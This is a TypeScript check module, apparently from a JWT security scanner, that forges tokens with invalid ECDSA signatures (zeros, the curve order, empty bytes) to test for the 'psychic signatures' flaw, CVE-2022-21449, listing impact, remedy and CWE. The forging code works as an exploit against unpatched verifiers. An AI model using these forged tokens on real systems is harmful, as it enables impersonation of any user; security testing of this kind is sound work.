import { assemble, readToken } from '../../kit/forge-token.ts'
import { tokenAttack } from '../../kit/token-attack.ts'

/** The order of the curve P-256 (SEC 2 version 2, section 2.4.2). */
const order = 0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551n

export default tokenAttack({
  id: 'token/alg-psychic',
  rows: ['token.alg-psychic'],
  title: 'ECDSA signatures that a verifier without range checks takes for any message: zeros, the order of the curve',
  requirement: 'RFC 8725 section 3.4: cryptographic inputs are validated; FIPS 186-5: r and s are between 1 and n − 1',
  impact: 'One signature fits every token: anyone becomes any user.',
  remedy: 'Update the JWT library and the runtime under it; refuse algorithms that the server does not use.',
  severity: 'critical',
  cwe: ['CWE-347'],
  references: ['RFC 8725 section 3.4', 'CVE-2022-21449'],
  provenBy: 'ecdsa-zero',
  forge({ victim }) {
    const { header, payload } = readToken(victim.token)
    const raw = (r: bigint, s: bigint) =>
      Buffer.from([r, s].map((n) => n.toString(16).padStart(64, '0')).join(''), 'hex')
    const signatures: [name: string, alg: string, signature: Buffer][] = [
      ['r = s = 0', 'ES256', raw(0n, 0n)],
      ['r = s = 0 in DER', 'ES256', Buffer.from('3006020100020100', 'hex')],
      ['nothing', 'ES256', Buffer.alloc(0)],
      ['r = s = n', 'ES256', raw(order, order)],
      ['r = n, s = 0', 'ES256', raw(order, 0n)],
      ['r = s = n − 1', 'ES256', raw(order - 1n, order - 1n)],
      ['r = 0, s = 1', 'ES256', raw(0n, 1n)],
      ['r = s = 0', 'ES384', Buffer.alloc(96)],
      ['r = s = 0', 'ES512', Buffer.alloc(132)],
    ]
    return signatures.map(([name, alg, signature]) => ({
      name: `${alg} signature ${name}`,
      token: assemble({ ...header, alg }, payload, signature),
    }))
  },
})
